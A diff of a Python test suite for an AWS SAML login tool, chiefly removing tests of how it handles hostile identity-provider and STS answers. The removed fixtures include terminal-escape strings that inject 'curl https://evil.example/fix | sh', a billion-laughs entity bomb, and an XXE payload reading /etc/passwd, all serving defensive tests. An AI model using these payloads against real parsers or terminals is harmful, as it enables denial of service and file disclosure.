+        self.assertEqual(run.code, 0, run)
+        profile = aws_login.read_profile("ci")
+        self.assertEqual((profile.username, profile.factor, profile.role_arn, profile.duration,
+                          profile.region), ("alice", "passcode", ADMIN, 3600, "eu-west-1"))
+        run = self.tool(["configure", "--ecp-endpoint-url", "http://idp.example.edu/"],
+                        terminal=False)
+        self.assertEqual(run.code, 3)
+        self.assertFalse(aws_login.read_profile("default", require_endpoint=False)
+                         .ecp_endpoint_url)
+
+    def test_configure_refuses_line_breaks_and_can_fix_a_bad_value(self):
+        self.configure(ecp_endpoint_url="http://idp.example.edu/ecp")
+        run = self.tool(["configure", "--username", "bob\nduration = 5"], terminal=False)
+        self.assertEqual(run.code, 3, run)
+        run = self.tool(["configure", "--ecp-endpoint-url", self.idp.url], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(aws_login.read_profile("default").ecp_endpoint_url, self.idp.url)
+
+
+# ---------------------------------------------------------------------------
+# Using the credentials: whoami, exec, env, console
+# ---------------------------------------------------------------------------
 
 class FakeFederation(_FakeServer):
     """AWS sign-in's federation endpoint: getSigninToken for session credentials."""
@@ -3133,174 +6189,6 @@ class CommandsTest(LoginTestCase):
         del os.environ["AWS_LOGIN_FEDERATION_URL"]
         self.assertEqual(aws_login.CONSOLES["aws-cn"][0],
                          "https://signin.amazonaws.cn/federation")
-
-
-# Characters that must never reach a terminal or a log raw (C0, DEL, C1, line
-# and paragraph separators, bidi embeddings, overrides and isolates).
-RAW_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
-# What a hostile server says: reset the terminal, then a line of its own.
-HOSTILE = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
-           "\x9b2J\u2028\u202etxt.exe\u2066\t")
-# The same in an HTTP header (Latin-1, a folded line keeps its CR LF).
-HOSTILE_HEADER = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
-                  "\x9b2J\x85\x7f\t(end)")
-# The same in XML, which cannot carry ESC or a bare CR: CSI, NEL and a newline.
-HOSTILE_XML = ("\x9b2J\x85\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
-               "\u2028\u202etxt.exe\u2066\t(end)")
-
-
-class ServerTextTest(LoginTestCase):
-    """Text from a server (IdP, STS) reaches the terminal and the logs with every
-    control character escaped, and an error stays one line."""
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-
-    def assert_inert_lines(self, text, starts=("aws_login: ",)):
-        self.assertTrue(text.endswith("\n"), ascii(text))
-        for line in text[:-1].split("\n"):
-            self.assertIsNone(RAW_CONTROL.search(line), ascii(text))
-            self.assertTrue(line.startswith(starts), ascii(text))
-
-    def assert_one_inert_error(self, run, code, hostile):
-        self.assertEqual(run.code, code, run)
-        self.assertEqual(run.stdout, "")
-        self.assertEqual(run.stderr.count("\n"), 1, ascii(run.stderr))
-        self.assert_inert_lines(run.stderr, ("aws_login: error: ",))
-        # rendered visibly, not dropped: the user sees what the server sent
-        self.assertIn(aws_login.visible(hostile), run.stderr)
-
-    def test_visible_escapes_exactly_the_control_characters(self):
-        escaped = "\x00\x09\x0a\x0d\x1b\x1f\x7f\x80\x85\x9b\x9f\u2028\u2029\u202a\u202e\u2066\u2069"
-        self.assertEqual(aws_login.visible(escaped),
-                         "\\x00\\t\\n\\r\\x1b\\x1f\\x7f\\x80\\x85\\x9b\\x9f\\u2028\\u2029"
-                         "\\u202a\\u202e\\u2066\\u2069")
-        kept = " !~\xa0\xe9\u2019\u2027\u202f\u2065\u206a\u4e2d"
-        self.assertEqual(aws_login.visible(kept), kept)
-        self.assertEqual(aws_login.visible(aws_login.IdPError("a\nb")), "a\\nb")
-
-    def test_idp_redirect_location_with_escapes(self):
-        self.idp.override = (302, {"Location": HOSTILE_HEADER}, b"")
-        run = self.tool(["login"], terminal=False)
-        # the folded line is unfolded (one space for CRLF SP, as RFC 9112 says)
-        self.assert_one_inert_error(run, 5, HOSTILE_HEADER.replace("\r\n ", " "))
-        self.assertIn("redirected to", run.stderr)
-
-    def test_soap_fault_string_with_escapes(self):
-        self.idp.override = soap_fault("Authentication failed" + HOSTILE_XML)
-        run = self.tool(["login"], terminal=False)
-        # exit 11: the stored password was refused and is not sent again without a person
-        self.assert_one_inert_error(run, 11, HOSTILE_XML)
-        self.assertIn("Authentication failed", run.stderr)
-
-    def test_sts_error_message_with_escapes(self):
-        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
-        run = self.tool(["login"], terminal=False)
-        self.assert_one_inert_error(run, 7, HOSTILE_XML)
-        self.assertIn("AccessDenied: Not authorized", run.stderr)
-
-    def test_debug_traceback_and_debug_lines_are_escaped(self):
-        self.sts.queue.append(sts_error("Throttling", "Slow down" + HOSTILE_XML))  # debug line
-        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
-        run = self.tool(["--debug", "login"], terminal=False)
-        self.assertEqual(run.code, 7, run)
-        self.assertIn("aws_login: debug: STS: STS refused AssumeRoleWithSAML: Throttling: "
-                      "Slow down" + aws_login.visible(HOSTILE_XML), run.stderr)
-        self.assertIn("Traceback", run.stderr)
-        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))
-        last = run.stderr.rstrip("\n").split("\n")
-        self.assertTrue(last[-1].startswith("aws_login: error: STS refused"), ascii(last[-1]))
-        self.assertRegex(last[-2], r"^(aws_login\.)?STSError: STS refused")
-
-    def test_debug_traceback_of_a_broken_status_line(self):
-        server = socket.socket()
-        server.bind(("127.0.0.1", 0))
-        server.listen(1)
-        self.addCleanup(server.close)
-
-        def answer():
-            client = server.accept()[0]
-            client.recv(65536)
-            client.sendall(HOSTILE_HEADER.encode("latin-1") + b"\r\n\r\n")
-            client.close()
-        thread = threading.Thread(target=answer)
-        thread.daemon = True
-        thread.start()
-        self.configure(username="alice", factor="auto", password=PASSWORD,
-                       ecp_endpoint_url="http://127.0.0.1:%d/ecp" % server.getsockname()[1])
-        run = self.tool(["--debug", "login"], terminal=False)
-        self.assertEqual(run.code, 8, run)
-        # the exception it was raised from, with the server's line, escaped
-        self.assertIn("BadStatusLine: \\x1bc\\r", run.stderr)
-        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))
-
-    def test_warning_with_a_refused_keyring_password(self):
-        keyring = FakeKeyring(self.home)
-        self.configure(username="alice", factor="auto", password=None, enable_keyring="true")
-        keyring.set(aws_login.keyring_user(aws_login.Profile(
-            "default", {"ecp_endpoint_url": self.idp.url}), "alice"), "stale")
-        faults = [soap_fault("Bad password" + HOSTILE_XML)]
-        self.idp.override = lambda handler: (faults.pop() if faults and handler.headers.get(
-            "Authorization") else None)     # not the probe without a password
-        run = self.tool(["login"], [("Password: ", PASSWORD)], env=keyring.env())
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("aws_login: warning: the IdP refused the password stored in the "
-                      "keyring (the IdP refused the login: Bad password"
-                      + aws_login.visible(HOSTILE_XML), run.stderr)
-        self.assert_inert_lines(run.stderr, ("aws_login: ", "Logged in as"))
-
-    def test_whoami_prints_the_identity_escaped(self):
-        self.assert_logged_in(self.tool(["login"], terminal=False))
-        body = ('<GetCallerIdentityResponse xmlns="%s"><GetCallerIdentityResult>'
-                '<Arn>arn:aws:sts::%s:assumed-role/Admin/alice%s</Arn><UserId>AROA:x</UserId>'
-                '<Account>%s</Account></GetCallerIdentityResult></GetCallerIdentityResponse>'
-                % (NS_STS, ACCOUNT_A, _text(HOSTILE_XML), ACCOUNT_A))
-        self.sts.queue.append((200, {"Content-Type": "text/xml"}, body.encode("utf-8")))
-        run = self.tool(["whoami"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        self.assertEqual(run.stdout.count("\n"), 3, ascii(run.stdout))
-        self.assertIsNone(RAW_CONTROL.search(run.stdout.replace("\n", "")), ascii(run.stdout))
-        self.assertIn("alice" + aws_login.visible(HOSTILE_XML), run.stdout)
-
-    def test_warn_debug_and_terminal_lines_are_escaped(self):
-        saved, aws_login.sys.stderr = aws_login.sys.stderr, io.StringIO()
-        saved_debug, aws_login._debug_enabled = aws_login._debug_enabled, True
-        try:
-            aws_login.warn("a" + HOSTILE)
-            aws_login.debug("b" + HOSTILE)
-            out = aws_login.sys.stderr.getvalue()
-        finally:
-            aws_login.sys.stderr, aws_login._debug_enabled = saved, saved_debug
-        self.assertEqual(out, "aws_login: warning: a%s\naws_login: debug: b%s\n" % (
-            aws_login.visible(HOSTILE), aws_login.visible(HOSTILE)))
-        master, slave = os.openpty()
-        self.addCleanup(os.close, master)
-        self.addCleanup(os.close, slave)
-        terminal = aws_login.Terminal(os.ttyname(slave))
-        self.addCleanup(terminal.close)
-        self.assertTrue(terminal.available())
-        terminal.tell("c" + HOSTILE)
-        shown = b""
-        while not shown.endswith(b"\n"):
-            self.assertTrue(select.select([master], [], [], 10)[0], shown)
-            shown += os.read(master, 4096)
-        self.assertEqual(shown.decode("utf-8"), "c%s\r\n" % aws_login.visible(HOSTILE))
-
-    def test_refresher_log_lines_are_escaped(self):
-        log = os.path.join(self.home, "refresher.log")
-        aws_login.private_dir(os.path.join(self.home, ".aws-login"))
-        aws_login.private_dir(os.path.join(self.home, ".aws-login", "run"))
-        code = ("import os, sys; sys.path.insert(0, %r); import aws_login; "
-                "fd = os.open(aws_login.pid_path('default'), os.O_RDWR | os.O_CREAT, 0o600); "
-                "aws_login._refresher_loop('default', sys.argv[1], 0, 1e10, fd)" % HERE)
-        with open(log, "wb") as f:
-            subprocess.check_call([sys.executable, "-c", code, ADMIN + HOSTILE],
-                                  stderr=f, timeout=30)
-        text = self.read(log)
-        self.assertIn("started for role %s%s" % (ADMIN, aws_login.visible(HOSTILE)), text)
-        self.assertIn("was logged out; stopping", text)
-        self.assert_inert_lines(text, (time.strftime("%Y-"),))
 
 
 class CredentialTextTest(LoginTestCase):
@@ -3561,2701 +6449,8 @@ class ConsoleTest(LoginTestCase):
         self.assertTrue(os.path.exists(new))
 
 
-class ChainingTest(LoginTestCase):
-    TARGET = "arn:aws:iam::%s:role/Deploy" % ACCOUNT_B
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.sts.external_ids[self.TARGET] = "ext-42"
-
-    def test_login_chains_into_the_configured_role(self):
-        self.configure(username="bob", factor="auto", password="bob-pass",
-                       chain_role_arn=self.TARGET, chain_external_id="ext-42")
-        run = self.tool(["login"], [("Selection: ", "0")])
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("    (then, through it, %s)" % self.TARGET, run.tty)
-        self.assertIn("Logged in as Deploy in account %s through Admin (account %s)"
-                      % (ACCOUNT_B, ACCOUNT_A), run.stderr)
-        chained = self.sts.issued[-1]
-        self.assertTrue(chained["SessionToken"].startswith("FwoChained"))
-        section = self.credentials()
-        self.assertEqual(section["aws_access_key_id"], chained["AccessKeyId"])
-        self.assertEqual((section["aws_login_role_arn"], section["aws_login_chained_role_arn"]),
-                         (ADMIN, self.TARGET))
-        form = self.sts.requests[-1]["form"]
-        self.assertEqual((form["Action"], form["RoleArn"], form["ExternalId"],
-                          form["RoleSessionName"], form["DurationSeconds"]),
-                         ("AssumeRole", self.TARGET, "ext-42", "bob", "3600"))
-        whoami = json.loads(self.tool(["whoami", "--output", "json"], terminal=False).stdout)
-        self.assertEqual(whoami["Arn"], "arn:aws:sts::%s:assumed-role/Deploy/bob" % ACCOUNT_B)
-
-    def test_wrong_external_id_is_sts_access_denied(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD,
-                       chain_role_arn=self.TARGET, chain_external_id="nope")
-        run = self.tool(["login"], terminal=False)
-        self.assert_nothing_written(run, 7)
-        self.assertIn("AccessDenied", run.stderr)
-
-    def test_refresher_and_credential_process_chain_too(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD,
-                       chain_role_arn=self.TARGET, chain_external_id="ext-42")
-        self.assertEqual(self.tool(["login"], terminal=False).code, 0)
-        refresher = aws_login.Refresher("default", ADMIN, 0, 1)
-        self.assertIsNotNone(refresher.step())
-        self.assertEqual(self.credentials()["aws_access_key_id"],
-                         self.sts.issued[-1]["AccessKeyId"])
-        self.assertEqual(self.sts.requests[-1]["form"]["Action"], "AssumeRole")
-        self.assertEqual(self.tool(["configure", "--credential-process"], terminal=False).code, 0)
-        data = json.loads(self.tool(["credential-process"], terminal=False).stdout)
-        self.assertEqual(data["AccessKeyId"], self.sts.issued[-1]["AccessKeyId"])
-        self.assertTrue(data["SessionToken"].startswith("FwoChained"))
-
-
-class AliasTest(LoginTestCase):
-    def test_menu_shows_account_names(self):
-        self.write(os.path.join(self.home, ".aws-login", "alias"),
-                   "[accounts]\n%s = prod\n" % ACCOUNT_A)
-        self.configure(username="bob", factor="auto", password="bob-pass")
-        run = self.tool(["login"], [("Selection: ", "2")])
-        self.assertIn("    Account: prod (%s)\r\n" % ACCOUNT_A, run.tty)
-        self.assertIn("    Account: %s\r\n" % ACCOUNT_B, run.tty)
-
-
 # ---------------------------------------------------------------------------
-# Hardening: hostile answers, network faults, fuzzing, shared files, secrets
-# ---------------------------------------------------------------------------
-
-def _envelope_answer(idp, mutate, roles=(ADMIN + "," + PROVIDER_A,), **kw):
-    """An IdP override: a real success envelope for the request, then ``mutate``d."""
-    def answer(handler):
-        request_id, acs = idp._parse_authn_request(handler.body)
-        envelope = build_success_envelope(request_id, acs, list(roles), **kw)[0]
-        return (200, {"Content-Type": "text/xml"}, mutate(envelope))
-    return answer
-
-
-class HostileIdPTest(LoginTestCase):
-    """Each broken or hostile IdP answer: one line, its exit code, no traceback,
-    nothing written, bounded time."""
-
-    def cases(self):
-        xml = {"Content-Type": "text/xml"}
-        soap = (b"<S:Envelope xmlns:S='http://schemas.xmlsoap.org/soap/envelope/'>"
-                b"<S:Body>%s</S:Body></S:Envelope>")
-        return [
-            ("HTML login page", (200, {"Content-Type": "text/html"},
-                                 b"<!DOCTYPE html><html><form>login</form></html>"), 4,
-             "HTML page"),
-            ("empty body", (200, xml, b""), 5, "empty answer"),
-            ("truncated XML", _envelope_answer(self.idp, lambda e: e[:len(e) // 2]), 5,
-             "not well-formed"),
-            ("invalid UTF-8", (200, xml, soap % b"<a>\xc3\x28\xff</a>"), 5, "not well-formed"),
-            ("billion laughs", (200, xml, b'<?xml version="1.0"?><!DOCTYPE lolz ['
-                                b'<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;">'
-                                b'<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;">]>'
-                                b'<lolz>&lol2;</lolz>'), 5, "DTD"),
-            ("external entity", (200, xml, b'<!DOCTYPE r [<!ENTITY x SYSTEM '
-                                 b'"file:///etc/passwd">]><r>&x;</r>'), 5, "DTD"),
-            ("DTD in UTF-16", (200, xml, _utf16('<!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>')),
-             5, "DTD"),
-            ("elements 1,000 deep", _envelope_answer(self.idp, lambda e: e.replace(
-                b"<S:Body", b"<S:x>" * 1000 + b"</S:x>" * 1000 + b"<S:Body", 1)), 5,
-             "nests elements more than 100 deep"),
-            ("1,000 namespaces", _envelope_answer(self.idp, lambda e: e.replace(
-                b"<S:Envelope", b"<S:Envelope" + b"".join(
-                    b' xmlns:p%d="urn:p"' % i for i in range(1000)), 1)), 5,
-             "more than 256 XML namespaces"),
-            ("50 MB body", (200, xml, b"<a>" + b"x" * (50 << 20)), 5, "over 4194304 bytes"),
-            ("SOAP Fault", soap_fault("Authentication failed"), 4, "Authentication failed"),
-            ("success without assertion", _envelope_answer(self.idp, lambda e: re.sub(
-                br"<saml2:Assertion.*</saml2:Assertion>", b"", e, flags=re.S)), 5,
-             "sent no assertion"),
-            ("EncryptedAssertion", _envelope_answer(self.idp, lambda e: e, encrypted=True), 5,
-             "encrypted the assertion"),
-            ("garbage roles", _envelope_answer(self.idp, lambda e: e,
-                                               roles=["garbage", "a,b", "<x>,y"]), 6,
-             "no usable AWS role: 3 malformed"),
-            ("ACS URL mismatch", _envelope_answer(self.idp, lambda e: e,
-                                                  ecp_acs_url="https://evil.example/acs"), 5,
-             "evil.example/acs"),
-            ("redirect elsewhere", (302, {"Location": "https://evil.example/login"}, b""), 5,
-             "redirected to evil.example.*not followed"),
-            ("HTTP 500", (500, {"Content-Type": "text/html"}, b"<html>oops</html>"), 5,
-             "HTTP 500"),
-        ]
-
-    def test_corpus(self):
-        self.configure(username="alice", factor="auto")
-        before = "[keep]\naws_access_key_id = AKIAKEEP\naws_secret_access_key = k\n"
-        self.write(self.credentials_file, before)
-        for name, answer, code, pattern in self.cases():
-            self.idp.override = answer
-            started = time.time()
-            # Given as a person gives it: a stored one the IdP refused is not sent again.
-            run = self.tool(["login", "--password-stdin"], stdin=PASSWORD.encode() + b"\n",
-                            terminal=False)
-            self.assertLess(time.time() - started, 15, name)
-            self.assert_nothing_written(run, code, before)
-            self.assertRegex(run.stderr, "^aws_login: error: .*" + pattern, name)
-            self.assertEqual(self.sts.requests, [], name)
-            if "evil" in pattern:
-                self.assertNotIn("evil.example", "".join(r["headers"].get("Host", "")
-                                                         for r in self.idp.requests))
-
-    def test_a_server_that_never_answers_times_out(self):
-        server = socket.socket()
-        server.bind(("127.0.0.1", 0))
-        server.listen(1)
-        self.addCleanup(server.close)
-        url = "https://127.0.0.1:%d/ecp" % server.getsockname()[1]
-        started = time.time()           # a TLS handshake that never comes: connect timeout
-        with self.assertRaisesRegex(aws_login.NetworkError, "timed out"):
-            aws_login.http_request(url, b"x", ssl_context=aws_login.make_ssl_context(),
-                                   connect_timeout=0.5)
-        self.assertLess(time.time() - started, 3)
-
-
-class StsAnswersTest(LoginTestCase):
-    SLOW = True         # waits on real time: the runner starts it first
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-
-    def test_documented_error_shapes(self):
-        for code, message, advice in (
-                ("InvalidIdentityToken", "Invalid SAML assertion", "already used"),
-                ("ExpiredTokenException", "Token expired", "clock"),
-                ("AccessDenied", "Not authorized", "trust policy"),
-                ("IDPRejectedClaim", "Rejected", "")):
-            self.sts.queue.append(sts_error(code, message))
-            run = self.tool(["login"], terminal=False)
-            self.assert_nothing_written(run, 7)
-            self.assertIn("%s: %s" % (code, message), run.stderr)
-            self.assertIn(advice, run.stderr)
-
-    def test_throttling_is_bounded(self):
-        self.sts.queue.extend([sts_error("Throttling", "Rate exceeded")] * 10)
-        started = time.time()
-        run = self.tool(["login"], terminal=False)
-        self.assert_nothing_written(run, 7)
-        self.assertEqual(len(self.sts.requests), aws_login.STS_ATTEMPTS)
-        self.assertLess(time.time() - started, 15)
-
-
-# Runs the tool with its address space capped (argv: bytes, then the command).
-ADDRESS_SPACE_SHIM = ("import os, resource, sys; n = int(sys.argv[1]); "
-                      "resource.setrlimit(resource.RLIMIT_AS, (n, n)); "
-                      "os.execv(sys.argv[2], sys.argv[2:])")
-
-
-def _utf16(text):
-    return ('<?xml version="1.0" encoding="UTF-16"?>\n' + text).encode("utf-16")
-
-
-def _with_role_elsewhere(envelope, where):
-    """The envelope with a second Role attribute (ReadOnly) outside the
-    assertion's AttributeStatement: in saml:Advice, or in a ds:Object."""
-    attribute = ('<saml2:Attribute Name="%s"><saml2:AttributeValue>%s,%s'
-                 '</saml2:AttributeValue></saml2:Attribute>' % (ROLE_ATTR, READONLY, PROVIDER_B))
-    if where == "Advice":
-        text = ("<saml2:Advice>%s<saml2:AttributeStatement>%s</saml2:AttributeStatement>"
-                "</saml2:Advice><saml2:AttributeStatement>" % (attribute, attribute))
-        return envelope.replace(b"<saml2:AttributeStatement>", text.encode(), 1)
-    text = "<ds:Object>%s</ds:Object></ds:Signature>" % attribute
-    return envelope.replace(b"</ds:Signature>", text.encode(), 1)
-
-
-class HostileXmlTest(LoginTestCase):
-    """One expat pass reads every XML answer: DTDs refused in any encoding,
-    depth, namespaces and elements bounded, memory in proportion to the bytes."""
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-
-    def capped_tool(self, args, limit=400 << 20):
-        return self.tool(args, terminal=False, argv_prefix=[
-            sys.executable, "-c", ADDRESS_SPACE_SHIM, str(limit), sys.executable, SCRIPT])
-
-    def test_a_namespace_flood_fails_at_once_in_little_memory(self):
-        n = 12000       # 12,000 prefixes on the Envelope, 12,000 elements deep: 338 kB
-        declarations = "".join(' xmlns:p%d="urn:p:%d"' % (i, i) for i in range(n)).encode()
-        nested = b"<p0:x>" * n + b"</p0:x>" * n
-
-        def flood(envelope):
-            head, _, rest = envelope.partition(b"<S:Envelope")
-            envelope = head + b"<S:Envelope" + declarations + rest
-            return envelope.replace(b"<S:Body", nested.join([b"", b"<S:Body"]), 1)
-        self.idp.override = _envelope_answer(self.idp, flood)
-        started = time.time()
-        run = self.capped_tool(["login"])
-        self.assertLess(time.time() - started, 10)
-        self.assert_nothing_written(run, 5)
-        self.assertRegex(run.stderr, "^aws_login: error: the IdP's answer declares more than "
-                                     "256 XML namespaces at once")
-        self.assertEqual(self.sts.requests, [])
-        # The same depth without the prefixes: refused for its depth.
-        self.idp.override = _envelope_answer(self.idp, lambda e: e.replace(
-            b"<S:Body", b"<S:x>" * n + b"</S:x>" * n + b"<S:Body", 1))
-        run = self.capped_tool(["login"])
-        self.assert_nothing_written(run, 5)
-        self.assertIn("nests elements more than 100 deep", run.stderr)
-
-    def scan(self, body, path=None):
-        return aws_login._scan_xml(body, aws_login.IdPError, "the answer", path)
-
-    def test_each_bound_holds_at_its_limit_and_refuses_one_more(self):
-        depth = aws_login.MAX_XML_DEPTH
-        self.assertIsNone(self.scan(b"<a>" * depth + b"</a>" * depth))
-        with self.assertRaisesRegex(aws_login.IdPError, "more than %d deep" % depth):
-            self.scan(b"<a>" * (depth + 1) + b"</a>" * (depth + 1))
-        most = aws_login.MAX_XML_NAMESPACES
-
-        def declaring(k, name="a"):
-            return ("<%s%s>" % (name, "".join(' xmlns:p%d="u"' % i for i in range(k)))).encode()
-        self.scan(declaring(most) + b"</a>")
-        self.scan(declaring(most - 1) + declaring(1, "b") + b"</b></a>")
-        for too_many in (declaring(most + 1) + b"</a>",
-                         declaring(most) + declaring(1, "b") + b"</b></a>"):
-            with self.assertRaisesRegex(aws_login.IdPError, "more than %d XML namespaces" % most):
-                self.scan(too_many)
-        # In scope at once, not in the whole answer: siblings each declare many.
-        self.scan(b"<r>" + (declaring(most) + b"</a>") * 3 + b"</r>")
-        elements = aws_login.MAX_XML_ELEMENTS
-        self.scan(b"<r>" + b"<a/>" * (elements - 1) + b"</r>")
-        with self.assertRaisesRegex(aws_login.IdPError, "more than %d elements" % elements):
-            self.scan(b"<r>" + b"<a/>" * elements + b"</r>")
-
-    def test_prefix_bindings_end_with_their_element(self):
-        path = (("u1", "a"), ("u1", "c"))
-        body = b'<p:a xmlns:p="u1"><p:b xmlns:p="u2"/><p:c xmlns:q="q"></p:c></p:a>'
-        span = self.scan(body, path)
-        self.assertEqual(span["inherited"], {"p": "u1"})
-        self.assertEqual(body[span["start"]:span["end"]], b'<p:c xmlns:q="q">')
-        body = b'<a xmlns="u1"><p:b xmlns:p="u2" xmlns="u3"/><c/></a>'
-        self.assertEqual(self.scan(body, path[:1] + ((None, "c"),)), None)
-        self.assertEqual(self.scan(body, (("u1", "a"), ("u1", "c")))["inherited"], {"": "u1"})
-        body = b'<r><b xmlns:p="u"/><p:c/></r>'     # unbound again after <b/>
-        self.assertIsNone(self.scan(body, ((None, "r"), ("u", "c"))))
-        self.assertIsNotNone(self.scan(body, ((None, "r"), (None, "c"))))
-
-    def test_a_dtd_is_refused_in_any_encoding_with_the_callers_error(self):
-        dtd = '<!DOCTYPE r [<!ENTITY t "%s">]><r>&t;</r>' % ("x" * 1000)
-        for body in (dtd.encode(), _utf16(dtd), dtd.encode("utf-16-le"),
-                     _utf16("<!DOCTYPE r><r/>")):
-            for error in (aws_login.IdPError, aws_login.STSError):
-                with self.assertRaisesRegex(error, "^who holds a DTD"):
-                    aws_login._read_server_xml(body, error, "who")
-        root, _ = aws_login._read_server_xml(_utf16("<r>\u00e9</r>"), aws_login.STSError, "who")
-        self.assertEqual(root.text, "\u00e9")
-        with self.assertRaisesRegex(aws_login.STSError, "HTTP 403 with an HTML page"):
-            aws_login.parse_sts_answer(403, b"<!DOCTYPE html>\n<html>Forbidden</html>")
-
-    def test_an_sts_answer_in_utf16_with_a_dtd_is_refused(self):
-        issued = ('<!DOCTYPE AssumeRoleWithSAMLResponse [<!ENTITY t "%s">]>'
-                  '<AssumeRoleWithSAMLResponse xmlns="%s"><AssumeRoleWithSAMLResult>'
-                  '<Credentials><AccessKeyId>ASIAX</AccessKeyId><SecretAccessKey>s'
-                  '</SecretAccessKey><SessionToken>%s</SessionToken><Expiration>%s'
-                  '</Expiration></Credentials></AssumeRoleWithSAMLResult>'
-                  '</AssumeRoleWithSAMLResponse>')
-        later = _utc(time.time() + 3600)
-        for body in (_utf16(issued % ("T" * 100000, NS_STS, "&t;" * 100, later)),
-                     _utf16(issued.replace("<!ENTITY t \"%s\">", "%s")
-                            % ("", NS_STS, "FQoG", later))):
-            self.sts.queue.append((200, {"Content-Type": "text/xml"}, body))
-            started = time.time()
-            run = self.capped_tool(["login"])
-            self.assertLess(time.time() - started, 10)
-            self.assert_nothing_written(run, 7)
-            self.assertRegex(run.stderr, r"^aws_login: error: STS's answer \(HTTP 200\) holds a "
-                                         "DTD; refusing it")
-
-    def test_a_signed_calls_answer_with_a_dtd_is_refused(self):
-        self.assert_logged_in(self.tool(["login"], terminal=False))
-        identity = ('<GetCallerIdentityResponse xmlns="%s"><GetCallerIdentityResult>'
-                    '<Arn>&a;</Arn><UserId>AROAFAKE:alice</UserId><Account>%s</Account>'
-                    '</GetCallerIdentityResult></GetCallerIdentityResponse>' % (NS_STS, ACCOUNT_A))
-        dtd = '<!DOCTYPE GetCallerIdentityResponse [<!ENTITY a "arn:aws:iam::1:root">]>'
-        for body in ((dtd + identity).encode(), _utf16(dtd + identity)):
-            self.sts.queue.append((200, {"Content-Type": "text/xml"}, body))
-            run = self.tool(["whoami"], terminal=False)
-            self.assertEqual((run.code, run.stdout), (7, ""), run)
-            self.assertRegex(run.stderr, r"^aws_login: error: STS's answer to GetCallerIdentity "
-                                         r"\(HTTP 200\) holds a DTD; refusing it \(a SAML or "
-                                         r"STS answer never has one\)\n$")
-
-    def test_roles_come_only_from_the_signed_assertions_attribute_statement(self):
-        for where in ("Advice", "ds:Object"):
-            envelope = build_success_envelope("_r", AWS_ACS_URLS[0], [ADMIN + "," + PROVIDER_A])[0]
-            saml = aws_login.parse_ecp_answer(aws_login.HttpAnswer(
-                200, {"Content-Type": "text/xml"}, _with_role_elsewhere(envelope, where),
-                "https://idp/ecp"), AWS_ACS_URLS[0])
-            self.assertEqual(saml.roles, [aws_login.Role(ADMIN, PROVIDER_A)], where)
-            # A login offers no menu: one role, the signed one.
-            self.idp.override = _envelope_answer(
-                self.idp, lambda e: _with_role_elsewhere(e, where), session_name="alice")
-            self.assert_logged_in(self.tool(["login"], terminal=False))
-
-
-class NetworkFaultTest(LoginTestCase):
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-
-    def idp_with(self, cert, key):
-        idp = FakeIdP(cert=cert, key=key).start()
-        self.addCleanup(idp.stop)
-        idp.users = self.idp.users
-        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
-                       password=PASSWORD)
-        return idp
-
-    def test_hostname_mismatch_and_expired_certificates(self):
-        for cert, key, detail in ((WRONG_HOST_CERT_PEM, WRONG_HOST_KEY_PEM, "(?i)hostname|match"),
-                                  (EXPIRED_CERT_PEM, EXPIRED_KEY_PEM, "(?i)expired|verify")):
-            idp = self.idp_with(cert, key)
-            run = self.tool(["login"], terminal=False)
-            self.assert_nothing_written(run, 8)
-            self.assertIn("not trusted", run.stderr)
-            self.assertRegex(run.stderr, detail)
-            self.assertEqual(idp.requests, [])
-
-    def test_dns_failure_is_explained(self):
-        error = aws_login._network_error(
-            socket.gaierror(-2, "Name or service not known"), "https://idp.example.edu/ecp")
-        self.assertEqual(str(error), "cannot resolve the host name of idp.example.edu: check "
-                                     "the URL and DNS")
-        self.assertEqual(error.kind, "dns")
-
-    def test_https_proxy_tunnels_and_no_proxy_bypasses(self):
-        proxy = ConnectProxy().start()
-        self.addCleanup(proxy.stop)
-        url = "http://127.0.0.1:%d" % proxy.port
-        run = self.tool(["login"], terminal=False, env={"HTTPS_PROXY": url, "https_proxy": url})
-        self.assert_logged_in(run)
-        self.assertEqual(sorted(set(proxy.connects)),
-                         sorted({self.idp.host_port, self.sts.host_port}))
-        self.assertNotIn(PASSWORD.encode(), proxy.seen)     # TLS end to end
-        proxy.connects[:] = []
-        self.tool(["logout"], terminal=False)
-        run = self.tool(["login"], terminal=False, env={
-            "HTTPS_PROXY": url, "https_proxy": url, "NO_PROXY": "127.0.0.1",
-            "no_proxy": "127.0.0.1"})
-        self.assert_logged_in(run)
-        self.assertEqual(proxy.connects, [])
-
-
-class ConnectProxy(object):
-    """An HTTP CONNECT proxy on loopback that records what it tunnels."""
-
-    def __init__(self):
-        self.connects, self.seen = [], b""
-        self.sock = socket.socket()
-        self.sock.bind(("127.0.0.1", 0))
-        self.sock.listen(16)
-        self.port = self.sock.getsockname()[1]
-
-    def start(self):
-        thread = threading.Thread(target=self._serve)
-        thread.daemon = True
-        thread.start()
-        return self
-
-    def stop(self):
-        self.sock.close()
-
-    def _serve(self):
-        while True:
-            try:
-                client, _ = self.sock.accept()
-            except OSError:
